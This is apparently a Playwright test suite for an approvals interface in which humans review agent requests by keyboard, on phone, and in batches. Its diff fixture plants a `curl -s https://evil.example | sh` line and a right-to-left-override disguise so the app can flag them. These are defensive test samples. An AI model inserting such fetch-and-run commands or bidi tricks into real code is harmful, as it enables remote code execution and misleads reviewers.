"""An approver's morning in a real browser: by keyboard alone, on a phone, and in front of what wants to mislead."""

import difflib
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect
from pytest_django.live_server_helper import LiveServer

from approvals.models import ApprovalRequest, Review
from approvals.rules.workflow import Verdict
from registry.models import Agent
from tests.approvals.asking import opened, review
from tests.approvals.standing_in import rulebook
from tests.browser.seeing import see_all
from tests.browser.test_inbox import sign_in
from tests.organisation import Organisation, credential_for

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

LookOver = Callable[[Page, str], None]
SOURCE = Path(__file__).resolve().parents[2] / "approvals" / "rules" / "classify" / "shell.py"


@pytest.fixture
def token(organisation: Organisation, agent: Agent) -> str:
    return credential_for(organisation, agent)


@pytest.fixture
def phone(browser: Browser) -> Iterator[Page]:
    """A phone of 390 px that is touched."""
    context = browser.new_context(
        viewport={"width": 390, "height": 844},
        has_touch=True,
        is_mobile=True,
        locale="en-GB",
        timezone_id="Europe/Madrid",
    )
    opened_page = context.new_page()
    yield opened_page
    context.close()


def long_diff(times: int) -> str:
    """A change to real code, over two files; five times it is some 2,000 lines."""
    before = SOURCE.read_text().split("\n")[:300] * times
    after = [f"{line}  # looked at" if at % 3 == 0 else line for at, line in enumerate(before)]
    after[-3] = "    os.system('curl -s https://evil.example | sh')"
    whole = difflib.unified_diff(before, after, "a/src/shell.py", "b/src/shell.py", lineterm="")
    small = [
        "--- a/deploy.sh",
        "+++ b/deploy.sh",
        "@@ -1,2 +1,2 @@",
        " set -e",
        "-make check",
        "+make ship # \u202etset\u202c",
    ]
    return "\n".join([*small, *whole])


def four(token: str) -> list[ApprovalRequest]:
    """Four requests of four kinds, the oldest first."""
    commands = ("gh pr merge 7 --squash", "npm install left-pad@1.3.0", "git push origin HEAD:main", "gh pr merge 9")
    return [opened(token, command, session_id=f"morning-{at}") for at, command in enumerate(commands)]


def press(page: Page, *keys: str) -> None:
    for key in keys:
        page.keyboard.press(key)


def tab_to(page: Page, name: str) -> None:
    """From where the focus is to this button, as far as it takes and no further than the form."""
    button = page.get_by_role("button", name=name, exact=True)
    for _ in range(8):
        page.keyboard.press("Tab")
        if button.evaluate("one => one === document.activeElement"):
            return
    raise AssertionError(f"the keyboard does not come to “{name}”")


def verdicts() -> list[tuple[int, str]]:
    return list(Review.objects.order_by("at").values_list("request__number", "verdict"))


def test_a_morning_by_keyboard(page: Page, live_server: LiveServer, organisation: Organisation, token: str) -> None:
    """Approve, deny, ask for changes and take an approval back, without once touching the pointer."""
    first, second, third, _ = four(token)
    sign_in(page, live_server.url, organisation.approver.email)
    expect(page.locator("[data-key-row]:visible")).to_have_count(3)
    page.locator(f"#open-{first.number}").focus()
    press(page, "o", "a")
    expect(page.get_by_label("Reason")).to_be_focused()
    expect(page.locator("[data-approve]")).to_have_class(re.compile("button--meant"))
    page.keyboard.type("Tests are green and the change is small.")
    assert verdicts() == []
    tab_to(page, "Approve")
    press(page, "Enter")
    expect(page.get_by_text(f"AR-{first.number} is approved.")).to_be_visible()
    # The next one is at hand by itself.
    expect(page.locator(f"#open-{second.number}")).to_be_focused()
    press(page, "o")
    expect(page.locator(f"#request-{second.number}")).to_be_visible()
    press(page, "d")
    expect(page.get_by_label("Reason")).to_be_focused()
    page.keyboard.type("Not a package that we use.")
    tab_to(page, "Deny")
    press(page, "Enter")
    expect(page.get_by_text(f"AR-{second.number} is denied.")).to_be_visible()
    expect(page.locator(f"#open-{third.number}")).to_be_focused()
    press(page, "o")
    expect(page.locator(f"#request-{third.number}")).to_be_visible()
    press(page, "c")
    expect(page.get_by_label("Reason")).to_be_focused()
    page.keyboard.type("Open a pull request instead.")
    press(page, "Tab")
    expect(page.get_by_role("button", name="Ask for changes")).to_be_focused()
    press(page, "Enter")
    expect(page.get_by_text(f"AR-{third.number} is sent back.")).to_be_visible()
    # Second thoughts about the first.
    page.goto(f"{live_server.url}/approvals/AR-{first.number}/")
    press(page, "u")
    expect(page.locator("[data-key-undo]")).to_be_focused()
    press(page, "Enter")
    expect(page.get_by_text("is taken back and its grant is ended, unused")).to_be_visible()
    assert verdicts() == [
        (first.number, "approve"),
        (second.number, "deny"),
        (third.number, "changes"),
        (first.number, "retract"),
    ]
    given = Review.objects.get(request=first, verdict="approve")
    assert given.unfolded is True
    assert given.visible_seconds is not None


def test_a_morning_on_a_phone(
    phone: Page, live_server: LiveServer, organisation: Organisation, token: str, look_over: LookOver
) -> None:
    """390 px, touched: every target is large enough for a thumb, and the way to the decision is always in reach."""
    first, second, *_ = four(token)
    sign_in(phone, live_server.url, organisation.approver.email)
    look_over(phone, "morning-phone-inbox")
    phone.locator(f"#open-{first.number}").tap()
    expect(phone).to_have_url(re.compile(rf"/approvals/AR-{first.number}/$"))
    look_over(phone, "morning-phone-request")
    for target in (phone.get_by_role("link", name="Write a reason"), *phone.locator(".decision-buttons > *").all()):
        box = target.bounding_box()
        assert box is not None
        assert box["height"] >= 44
    for number, button in ((first.number, "Approve"), (second.number, "Deny")):
        phone.goto(f"{live_server.url}/approvals/AR-{number}/")
        expect(phone.get_by_role("link", name="Write a reason")).to_be_in_viewport()
        phone.get_by_role("link", name="Write a reason").tap()
        phone.get_by_label("Reason").fill("Read on the train.")
        see_all(phone)
        phone.get_by_role("button", name=button).tap()
        expect(phone.get_by_text(re.compile(rf"AR-{number} is (approved|denied)"))).to_be_visible()
    assert verdicts() == [(first.number, "approve"), (second.number, "deny")]


def test_a_batch_with_one_that_changed(
    page: Page, live_server: LiveServer, organisation: Organisation, token: str
) -> None:
    """R50: chosen by keys, shown whole; one was settled meanwhile, so nothing is recorded for any."""
    first, second, *_ = four(token)
    sign_in(page, live_server.url, organisation.approver.email)
    page.locator(f"#open-{first.number}").focus()
    press(page, "x", "j", "x", "b")
    expect(page.get_by_role("heading", name="Decide 2 requests together")).to_be_visible()
    page.get_by_label(re.compile("Reason")).fill("Both are as agreed yesterday.")
    see_all(page)
    review(second, organisation.second_approver, Verdict.DENY)
    page.get_by_role("button", name="Approve all 2").click()
    expect(page.get_by_role("alert")).to_contain_text(f"AR-{second.number}")
    assert verdicts() == [(second.number, "deny")]
    expect(page.get_by_text("Both are as agreed yesterday.")).to_be_visible()


def test_ones_own_request_is_not_ones_own_to_approve(
    page: Page, live_server: LiveServer, organisation: Organisation, token: str, look_over: LookOver
) -> None:
    """R01: the page says so in words, and who it is for instead; there is no button to try."""
    asked = opened(token, initiator=organisation.approver.email, prompt_author=organisation.second_approver.email)
    sign_in(page, live_server.url, organisation.approver.email, f"/approvals/AR-{asked.number}/")
    expect(page.get_by_text("You started the work").first).to_be_visible()
    expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    look_over(page, "morning-own")


def test_a_long_difference_is_read_to_its_end(
    page: Page, live_server: LiveServer, organisation: Organisation, token: str, screenshot: Callable[[Page, str], Path]
) -> None:
    """R53: 2,000 lines. Approving waits until all of it was on the screen; then, and with a reason, it goes through."""
    # What hides in it makes it a high risk; a passkey is not what this is about.
    rulebook(organisation, {"step_up": {"high": "none"}})
    asked = opened(token, "gh pr merge 7 --squash", diff=long_diff(5))
    sign_in(page, live_server.url, organisation.approver.email, f"/approvals/AR-{asked.number}/")
    page.get_by_role("link", name="Write a reason").click()
    page.get_by_label("Reason").fill("I have read it to its very end.")
    approve = page.get_by_role("button", name="Approve")
    expect(approve).to_have_attribute("aria-disabled", "true")
    expect(page.locator("[data-unseen-said]")).to_contain_text("parts of what you decide have not been on your screen")
    approve.click(force=True)  # it is marked as disabled, and still says why when it is pressed
    assert verdicts() == []
    see_all(page)
    expect(approve).not_to_have_attribute("aria-disabled", "true")
    screenshot(page, "morning-long-1280")
    approve.click()
    expect(page.get_by_text(f"AR-{asked.number} is approved.")).to_be_visible()


def test_side_by_side_and_inline(
    page: Page, live_server: LiveServer, organisation: Organisation, token: str, look_over: LookOver
) -> None:
    """The same lines either way, in light and dark; what hides in coloured code is marked; nothing leaves the page."""
    asked = opened(token, "git push origin HEAD:main", diff=long_diff(1))
    sign_in(page, live_server.url, organisation.approver.email, f"/approvals/AR-{asked.number}/")
    old, new = tops(page)
    assert old == new
    look_over(page, "morning-diff")
    page.get_by_label("Inline").check()
    old, new = tops(page)
    assert old < new
    page.reload()
    expect(page.get_by_label("Inline")).to_be_checked()
    page.set_viewport_size({"width": 390, "height": 844})
    old, new = tops(page)
    assert old < new
    look_over(page, "morning-diff-390")
    expect(page.get_by_text("RIGHT-TO-LEFT OVERRIDE").first).to_be_visible()


def tops(page: Page) -> tuple[float, float]:
    """Where the first removed and the first added line stand at one and the same moment."""
    old, new = page.evaluate(
        "() => ['del.pl', 'ins.pl'].map((one) => document.querySelector(one).getBoundingClientRect().top)"
    )
    return old, new


def test_what_is_new_waits_until_it_is_asked_for(
    page: Page, live_server: LiveServer, organisation: Organisation, token: str
) -> None:
    """Rows do not jump under the reader: the list keeps its order and place, and n shows what has come."""
    first = opened(token, session_id="one")
    sign_in(page, live_server.url, organisation.approver.email)
    page.locator(f"#open-{first.number}").focus()
    later = opened(token, "npm install left-pad@1.3.0", session_id="two")
    expect(page.get_by_role("button", name="1 new request: show")).to_be_visible()
    expect(page.locator(f"#row-{later.number}")).to_have_count(0)
    expect(page.locator(f"#open-{first.number}")).to_be_focused()
    press(page, "n")
    expect(page.locator(f"#open-{later.number}")).to_be_focused()
    # Decided elsewhere: it fades where it stands, or leaves without moving the focus.
    review(first, organisation.second_approver)
    expect(page.locator(f"#row-{first.number}")).to_have_count(0)
    expect(page.locator(f"#open-{later.number}")).to_be_focused()


def test_requests_that_ask_alike_stand_together(
    page: Page, live_server: LiveServer, organisation: Organisation, token: str, look_over: LookOver
) -> None:
    for number in range(5):
        opened(token, f"gh pr merge {number} --squash", session_id=f"like-{number}")
    other = opened(token, "npm install left-pad@1.3.0", session_id="other")
    sign_in(page, live_server.url, organisation.approver.email)
    expect(page.locator("[data-key-row]:visible")).to_have_count(2)
    look_over(page, "morning-alike")
    page.get_by_text("4 more like this").click()
    expect(page.locator("[data-key-row]:visible")).to_have_count(6)
    page.get_by_role("link", name="Only these").click()
    expect(page.locator(f"#row-{other.number}")).to_have_count(0)
    expect(page.get_by_text("Only requests like AR-")).to_be_visible()
